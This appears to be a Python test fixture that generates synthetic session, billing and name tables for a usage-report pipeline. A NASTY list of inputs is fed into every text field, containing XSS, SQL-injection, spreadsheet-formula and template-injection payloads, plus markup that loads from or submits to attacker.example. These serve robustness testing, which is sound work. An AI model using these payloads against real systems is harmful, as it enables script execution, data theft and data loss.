"""Lakes of every shape, written from rows of the session tables; the other tables are built from these as in a run."""

import random
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from itertools import cycle
from pathlib import Path

from devin_pipeline.billing_calendar import days_between, starts_at
from devin_pipeline.derived.publishing import publish_rollups
from devin_pipeline.lake import Lake, LakeIdentity, ReportClock
from devin_pipeline.reports.publishing import publish_report
from devin_pipeline.tables import RAW_CONSUMPTION, RAW_SESSION_TABLES, REPORT_TABLES, TABLES
from devin_pipeline.usage_report import Question
from devin_pipeline_tests.tables.rows import Row, rows_of

LAST = date(2026, 11, 28)

NASTY = (
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(2)>",
        '"><svg onload=alert(3)>',
        "</script><script>alert(4)",
    ),
    *("</title></style><b>", "javascript:alert(5)", "{{ 7 * 7 }}", "{% raw %}", "${alert(6)}", "<!--", "-->", "]]>"),
    *(
        "' onmouseover=alert(7) x='",
        '" onfocus=alert(8) autofocus="',
        "&lt;script&gt;",
        "&amp;",
        "%3Cscript%3E",
        "\\u003cscript\\u003e",
    ),
    *("=1+1", "+SUM(A1)", "@cmd", "-2+3", "=cmd|'/C calc'!A0", "\tx", "\r\nx"),
    *(
        "\u202eright to left\u202c",
        "\u2066isolated",
        "\u200bzero\u200bwidth\u200b",
        "\ufeffmark",
        "\u2028line",
        "\u0000null",
        "a\u0000b",
    ),
    *(
        "\x1b[31mred",
        "\x07bell",
        "\x7f",
        "\U0001f469\u200d\U0001f469\u200d\U0001f467",
        "e\u0301\u0301\u0301",
        "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
        "\u05e9\u05dc\u05d5\u05dd",
    ),
    *(
        "x" * 10_000,
        "word " * 2_000,
        "\U0001f600" * 5_000,
        "<b>" * 3_000,
        "",
        " ",
        "null",
        "None",
        "NaN",
        "undefined",
        "[object Object]",
    ),
    *(
        "<iframe src=https://attacker.example></iframe>",
        "<link rel=stylesheet href=//attacker.example>",
        "<base href=//attacker.example>",
    ),
    *(
        "<form action=//attacker.example><input name=q>",
        "url(//attacker.example)",
        "<style>@import '//attacker.example'</style>",
    ),
    *(
        "<meta http-equiv=refresh content=0;url=//attacker.example>",
        "<object data=//attacker.example>",
        "<math><mtext></p>",
    ),
    *(
        "datum.x",
        "a.b[0]",
        "a\\.b",
        "a'b\"c`d",
        "a;b",
        "drop table sessions",
        "'; drop table sessions; --",
        "$first",
        "$$",
        "?",
    ),
    *(f"<a href='javascript:alert({n})' onclick=alert({n})>{n}</a>" for n in range(60)),
    *(f"{chr(0x2000 + n)}space{chr(0x2000 + n)}" for n in range(48)),
    *(f"<x{n} onpointerenter=alert({n})>" for n in range(26)),
)
"""Markup, scripts, formulas, right-to-left and unseen characters, long words, emoji, control characters."""


PRODUCTS_WITH_SESSIONS = ("devin", "automation")
NAMES = ("organizations", "users", "playbooks")


def write(folder: Path, days: Sequence[date], scope: str = "enterprise", /, **tables: Sequence[Row]) -> Lake:
    """A lake of these rows of session tables and of names; of a bill, all days but the newest two are final."""
    lake = Lake(str(folder))
    lake.claim(LakeIdentity("live", "api.devin.ai", scope, 8))
    for name, rows in tables.items():
        if name not in NAMES:
            lake.replace_days(TABLES[name], list(days), rows_of(TABLES[name], rows))
    publish_rollups(lake, list(days), 8)
    if "consumption_daily" in tables:
        organization = None if scope == "enterprise" else scope
        newest = max(days)
        clock = ReportClock(
            newest + timedelta(days=1), newest - timedelta(days=1), organization, PRODUCTS_WITH_SESSIONS
        )
        lake.set_report_clock(clock)
        lake.note_read(RAW_CONSUMPTION, list(days), starts_at(newest, 8, after=2))
    for table in REPORT_TABLES:
        publish_report(lake, table)
    for name in NAMES:
        if name in tables:
            lake.replace_all(TABLES[name], rows_of(TABLES[name], tables[name]))
    return lake


def bill(rng: random.Random, sessions: Sequence[Row], product: Callable[[str], str]) -> dict[str, list[Row]]:
    """A bill of what sessions consumed on their day and the next, of a further product, and, on some days, of more."""
    consumed: list[Row] = []
    billed: dict[tuple[date, object], Decimal] = {}
    days = {session["day"] for session in sessions}
    for session in sessions:
        if session["acus"] is None:
            continue
        key = {name: session[name] for name in ("day", "session_id")}
        next_day = session["day"] + timedelta(days=1)
        late = (session["acus"] / 4).quantize(Decimal("0.000001")) if rng.random() < 0.3 and next_day in days else 0
        method = "version_delta" if late else "single_day"
        for day, acus in ((session["day"], session["acus"] - late), (next_day, late)):
            if acus:
                consumed.append({**key, "consumed_day": day, "attribution_method": method, "acus": acus})
                billed[day, session["org_id"]] = billed.get((day, session["org_id"]), Decimal(0)) + acus
    rows: dict[tuple[date, str, object, str], Decimal] = {}
    for (day, org_id), acus in billed.items():
        # On one day in five more or less is billed than was consumed.
        factor = (Decimal("1.004"), Decimal("1.03"), Decimal("0.8"), Decimal("1.2"))[day.day % 4] if day.day % 5 else 1
        amounts = {"devin": (acus * factor).quantize(Decimal("0.000001")), product("review"): Decimal(2)}
        for name, amount in amounts.items():
            for scope, scope_id in (("organization", org_id), ("enterprise", "(enterprise)")):
                key_of_row = (day, scope, scope_id, name)
                rows[key_of_row] = rows.get(key_of_row, Decimal(0)) + amount
    return {
        "consumption_daily": [
            {"day": day, "scope": scope, "scope_id": scope_id, "product": name, "acus": acus}
            for (day, scope, scope_id, name), acus in rows.items()
        ],
        "session_acus_by_day": consumed,
    }


def names(sessions: Sequence[Row], text: Callable[[str], str]) -> dict[str, list[Row]]:
    """Names of the ids of sessions, but not of all; some have the same one, one is blank, one has a new one since."""
    before, since = starts_at(LAST, 8, after=-400), starts_at(LAST, 8, after=9)
    organizations = sorted({session["org_id"] for session in sessions})
    users = sorted({session["user_id"] for session in sessions})
    playbooks = sorted({session["playbook_id"] for session in sessions if session["playbook_id"]})
    known = {"valid_from": before, "is_current": True, "is_listed": True}
    return {
        "organizations": [
            *({**known, "org_id": each, "name": text(f"Team {n}")} for n, each in enumerate(organizations) if n != 3),
            {**known, "org_id": organizations[0], "name": text("Renamed"), "valid_from": since},
        ],
        "users": [
            {**known, "user_id": each, "name": "xxxxx" if n == 2 else text("Kim" if n < 2 else f"Person {n}")}
            for n, each in enumerate(users)
        ],
        "playbooks": [{**known, "playbook_id": each, "title": text("Raise coverage")} for each in playbooks],
    }


def enterprise(
    folder: Path,
    *,
    days: int,
    sessions_a_day: int,
    organizations: int,
    texts: Sequence[str] = (),
    every: int = 1,
    seed: int = 7,
) -> Lake:
    """A lake of an enterprise up to `LAST`; with `texts`, these stand in every text column, in turn.

    A file for each day takes long, so of years only one day in `every` may have sessions.
    """
    rng = random.Random(seed)
    given = cycle(texts) if texts else None
    period = [LAST - timedelta(days=n) for n in range(0, days, every)][::-1]
    rows: dict[str, list[Row]] = {
        name: []
        for name in (
            *("sessions", "session_pull_requests", "session_issues", "session_action_items"),
            *("prompt_suggestions", "prompt_feedback"),
        )
    }

    def text(usual: str) -> str:
        return usual if given is None else next(given)

    def session(day: date, number: int) -> None:
        name = f"session-{day}-{number}"
        created = datetime.combine(day, time(12), UTC) + timedelta(seconds=number)
        acus = None if rng.random() < 0.02 else Decimal(rng.randrange(1, 20_000_000)).scaleb(-6)
        key = {"day": day, "session_id": name}
        org_id = text(f"org-{rng.randrange(organizations)}")
        rows["sessions"].append(
            {
                **key,
                **{"org_id": org_id, "user_id": text(f"user-{rng.randrange(9)}"), "title": text("title")},
                **{"tags": [text(tag) for tag in rng.sample(["a", "b", "c"], rng.randrange(3))], "acus": acus},
                **{"state": rng.choice(["finished", "finished", "running", "error"]), "status": text("exit")},
                **{
                    "origin": text(rng.choice(["webapp", "slack"])),
                    "category": text(rng.choice(["bug_fixing", "other"])),
                },
                **{"playbook_id": text("playbook-1") if rng.random() < 0.3 else None, "created_at": created},
                **{"updated_at": created, "session_size": rng.choice(["xs", "s", "m", "l", "xl", None])},
                **{"num_devin_messages": 3, "has_analysis": number % 2 == 0, "initial_user_message": text("Hi")},
            }
        )
        for ordinal in range(rng.randrange(3)):
            request = rng.randrange(4 * days * sessions_a_day)
            rows["session_pull_requests"].append(
                {
                    **key,
                    **{
                        "ordinal": ordinal,
                        "url": f"https://github.com/o/r{request % 5}/pull/{request}",
                        "number": request,
                    },
                    **{"host": "github.com", "repository": text(f"o/r{request % 5}"), "org_id": org_id},
                    **{
                        "state": rng.choice(["merged", "merged", "open", "closed", None]),
                        "session_created_at": created,
                    },
                    **{"session_updated_at": created, "acus_share": acus},
                }
            )
        if number % 2 == 0:
            issue = {"label": text(rng.choice(["Scope", "Prompt"])), "impact": text(rng.choice(["High", "low"]))}
            rows["session_issues"].append({**key, "ordinal": 0, "issue": text("issue"), **issue})
            rows["session_action_items"].append(
                {**key, "ordinal": 0, "type": text("knowledge"), "action_item": text("Do it")}
            )
            prompts = {"original_prompt": text("fix it"), "suggested_prompt": text("fix the login in auth.py")}
            rows["prompt_suggestions"].append({**key, **prompts, "feedback_items": 1})
            rows["prompt_feedback"].append({**key, "ordinal": 0, "summary": text("Too vague"), "details": text("…")})

    for day in period:
        for number in range(sessions_a_day):
            session(day, number)
    # Of its own, so that sessions are the same with a bill and without.
    spent = bill(random.Random(seed), rows["sessions"], text)
    return write(folder, period, **rows, **spent, **names(rows["sessions"], text))


def chunks(texts: Sequence[str], count: int) -> Iterator[Sequence[str]]:
    """Texts in so many parts."""
    for start in range(count):
        yield texts[start::count]


KINDS = {
    "one-day": (1, 5, 2),
    "one-organization": (84, 5, 1),
    "sixty-organizations": (40, 70, 60),
    "three-years": (3 * 365, 4, 6),
}
"""Days, sessions a day and organizations of lakes whose reports look unlike each other."""


def of_kind(kind: str, folder: Path) -> tuple[Lake, Question]:
    """A lake of a kind, or one whose only day had no session; and what its report is asked for."""
    if kind not in KINDS:
        lake = write(folder, [LAST], sessions=[])
        lake.note_read(RAW_SESSION_TABLES[0], [LAST], starts_at(LAST, 8, after=2))
        return lake, Question()
    days, sessions_a_day, organizations = KINDS[kind]
    every = 9 if days > 1000 else 1
    lake = enterprise(folder, days=days, sessions_a_day=sessions_a_day, organizations=organizations, every=every)
    if every == 1:
        return lake, Question()
    first = LAST.replace(year=LAST.year - 3, day=29)
    lake.note_read(RAW_SESSION_TABLES[0], days_between(first, LAST), starts_at(LAST, 8, after=2))
    return lake, Question(first, LAST)
